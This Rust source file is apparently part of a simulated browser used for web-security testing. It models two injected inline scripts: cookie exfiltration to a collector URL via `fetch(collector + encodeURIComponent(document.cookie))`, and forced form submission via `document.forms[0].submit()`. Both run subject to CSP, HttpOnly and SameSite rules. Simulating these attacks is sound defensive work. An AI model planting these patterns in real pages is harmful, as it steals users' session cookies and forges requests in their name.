//! Running a page's inline scripts: where the script model ([`crate::script`]) meets the browser.
//!
//! [`crate::script`] decides *whether* a script runs and *which* program it is; this file does
//! what the program does, with the browser's own jar and network: the exfiltration program
//! reads `document.cookie` and fetches the collector, the auto-submit program sends the page's
//! first form. Requests a script makes are ordinary requests of this browser, with all its
//! cookie, HSTS and fetch-metadata rules.
use url::Url;

use super::{Browser, Page, RequestSpec, urlencode};
use crate::ScriptEffect;
use crate::script::{
    csp_allows_inline_script, encode_uri_component, is_auto_submit, parse_exfiltration,
};

impl Browser {
    /// Runs the page's inline scripts through the script model, in document order.
    ///
    /// A script runs only if it is a real `<script>` element of the parsed page and the page's
    /// Content-Security-Policy allows inline script. The exfiltration program reads
    /// `document.cookie` (no HttpOnly cookies) and requests the collector URL; the auto-submit
    /// program sends the page's first form; any other script is ignored.
    pub(super) async fn run_scripts(&mut self, page: &Page) -> Vec<ScriptEffect> {
        let policy = content_security_policy(&page.headers);
        let mut effects = Vec::new();
        for script in crate::html::inline_scripts_in_place(&page.body) {
            let effect = if !csp_allows_inline_script(policy.as_deref()) {
                ScriptEffect::BlockedByCsp {
                    policy: policy.clone().unwrap_or_default(),
                }
            } else if let Some(collector) = parse_exfiltration(&script.source) {
                self.exfiltrate(&page.url, &collector).await
            } else if is_auto_submit(&script.source) {
                self.auto_submit(page, script.forms_before).await
            } else {
                ScriptEffect::Ignored {
                    excerpt: excerpt(&script.source),
                }
            };
            effects.push(effect);
        }
        effects
    }

    /// The auto-submit program: `document.forms[0].submit()`, HTML's form submission of the
    /// page's first form with its fields as they stand (hidden ones included; `submit()` adds no
    /// button and fires no submit event). It is a top-level navigation started by the page, so
    /// the jar applies SameSite to it as to any cross-site POST, and `Origin` / `Sec-Fetch-Site`
    /// name the page. The script runs where the parser meets it: `forms_before` forms exist then.
    /// The model does not run the scripts of the page the navigation lands on, so a page that
    /// submits to itself cannot loop.
    async fn auto_submit(&mut self, page: &Page, forms_before: usize) -> ScriptEffect {
        let first = page.forms().into_iter().next().filter(|_| forms_before > 0);
        let Some(form) = first else {
            // JavaScript: `document.forms[0]` is undefined, a TypeError.
            self.script_errors.push(format!(
                "document.forms[0].submit() on {}: no form before the script",
                page.url
            ));
            return ScriptEffect::Ignored {
                excerpt: "document.forms[0].submit() with no form before it".to_string(),
            };
        };
        let spec = if form.method == "POST" {
            RequestSpec::post_form(form.action.clone(), form.fields, Some(page.url.clone()))
        } else {
            let mut action = form.action.clone();
            action.set_query(Some(&urlencode(&form.fields)));
            RequestSpec::navigate(action, Some(page.url.clone()))
        };
        let status = match self.fetch(spec).await {
            Ok(landed) => Some(landed.status),
            Err(error) => {
                self.script_errors.push(format!(
                    "form submitted by a script on {}: {error}",
                    page.url
                ));
                None
            }
        };
        ScriptEffect::SubmittedForm {
            action: form.action,
            method: form.method,
            status,
        }
    }

    /// The exfiltration program: `fetch(collector + encodeURIComponent(document.cookie))`, a
    /// script fetch started by the page (mode `cors`: the request goes out and the collector
    /// logs it, whatever CORS later lets the script read). A failed request is recorded in
    /// `script_errors`.
    async fn exfiltrate(&mut self, page_url: &Url, collector: &str) -> ScriptEffect {
        let document_cookie = self.jar.document_cookie(page_url, self.now());
        let target = format!("{collector}{}", encode_uri_component(&document_cookie));
        let request = match page_url.join(&target) {
            Ok(request) => request,
            Err(error) => {
                self.script_errors
                    .push(format!("fetch({target:?}) on {page_url}: {error}"));
                return ScriptEffect::Ignored {
                    excerpt: excerpt(&format!("fetch('{collector}'...) to an invalid URL")),
                };
            }
        };
        let spec = RequestSpec::script_fetch(request.clone(), page_url.clone());
        if let Err(error) = self.fetch(spec).await {
            self.script_errors
                .push(format!("fetch from a script on {page_url}: {error}"));
        }
        ScriptEffect::Exfiltrated {
            document_cookie,
            request,
        }
    }
}

/// All `Content-Security-Policy` headers of a response, joined with ", " (each one is enforced).
/// `Content-Security-Policy-Report-Only` blocks nothing and is not read.
fn content_security_policy(headers: &[(String, String)]) -> Option<String> {
    let policies: Vec<&str> = headers
        .iter()
        .filter(|(name, _)| name.eq_ignore_ascii_case("content-security-policy"))
        .map(|(_, value)| value.as_str())
        .collect();
    (!policies.is_empty()).then(|| policies.join(", "))
}

/// Whether a browser would render this response as an HTML page (and so run its scripts):
/// an HTML content type and not a redirect.
pub(super) fn is_rendered_html(page: &Page) -> bool {
    let html = page
        .header("content-type")
        .is_some_and(|kind| kind.to_ascii_lowercase().contains("text/html"));
    html && !(300..400).contains(&page.status)
}

/// The first 80 characters of a script, whitespace collapsed, for reports.
fn excerpt(script: &str) -> String {
    let collapsed = script.split_whitespace().collect::<Vec<_>>().join(" ");
    let mut excerpt: String = collapsed.chars().take(80).collect();
    if collapsed.chars().count() > 80 {
        excerpt.push_str("...");
    }
    excerpt
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csp_headers_are_joined() {
        let headers = vec![
            (
                "content-security-policy".to_string(),
                "script-src 'unsafe-inline'".to_string(),
            ),
            (
                "Content-Security-Policy".to_string(),
                "default-src 'self'".to_string(),
            ),
        ];
        assert_eq!(
            content_security_policy(&headers).as_deref(),
            Some("script-src 'unsafe-inline', default-src 'self'")
        );
        assert_eq!(content_security_policy(&[]), None);
    }

    #[test]
    fn excerpts_are_short() {
        assert_eq!(excerpt("  alert(1)\n  "), "alert(1)");
        assert_eq!(excerpt(&"x".repeat(100)).len(), 83);
    }
}
